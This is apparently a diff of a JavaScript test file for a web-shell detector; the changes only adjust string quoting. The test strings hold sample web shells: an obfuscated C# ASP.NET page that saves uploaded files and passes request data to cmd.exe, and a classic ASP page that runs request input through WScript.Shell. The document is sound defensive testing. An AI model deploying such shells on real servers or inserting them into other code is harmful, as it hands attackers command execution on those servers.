@@ -162,13 +162,13 @@ test("request data returned by the page's own function taints every call of it",
   // C#: an obfuscated uploader whose request access hides behind one-line methods.
   const cs = [
     '<%@ Page Language="C#" %>',
-    "<script runat=\"server\">",
+    '<script runat="server">',
     "HttpFileCollection _0x1() { return Request.Files; }",
     'string _0x2() { return Request.Form["d"]; }',
     "protected void Page_Load(object s, EventArgs e) {",
     "  HttpPostedFile f = _0x1()[0];",
-    "  f.SaveAs(Server.MapPath(\"~/\") + _0x2() + f.FileName);",
-    "  var p = Process.Start(\"cmd.exe\", \"/c \" + this._0x2());",
+    '  f.SaveAs(Server.MapPath("~/") + _0x2() + f.FileName);',
+    '  var p = Process.Start("cmd.exe", "/c " + this._0x2());',
     "}",
     "</script>",
   ].join("\n");
@@ -183,15 +183,15 @@ test("request data returned by the page's own function taints every call of it",
     "Function Cmd()",
     '  Cmd = Request("c")',
     "End Function",
-    "Set sh = Server.CreateObject(\"WScript.Shell\")",
-    "Response.Write sh.Exec(\"cmd /c \" & Cmd()).StdOut.ReadAll",
+    'Set sh = Server.CreateObject("WScript.Shell")',
+    'Response.Write sh.Exec("cmd /c " & Cmd()).StdOut.ReadAll',
     "%>",
   ].join("\n");
   assert.ok(strong(vb, "v.asp"), String(checks(vb, "v.asp")));
   // Trap: helpers returning the application's own settings and paths feed the same kind of calls.
   const app = [
     '<%@ Page Language="C#" %>',
-    "<script runat=\"server\">",
+    '<script runat="server">',
     'string ToolPath() { return ConfigurationManager.AppSettings["ffmpeg"]; }',
     'string Root() { return Server.MapPath("~/App_Data/thumbs/"); }',
     "protected void Page_Load(object s, EventArgs e) {",
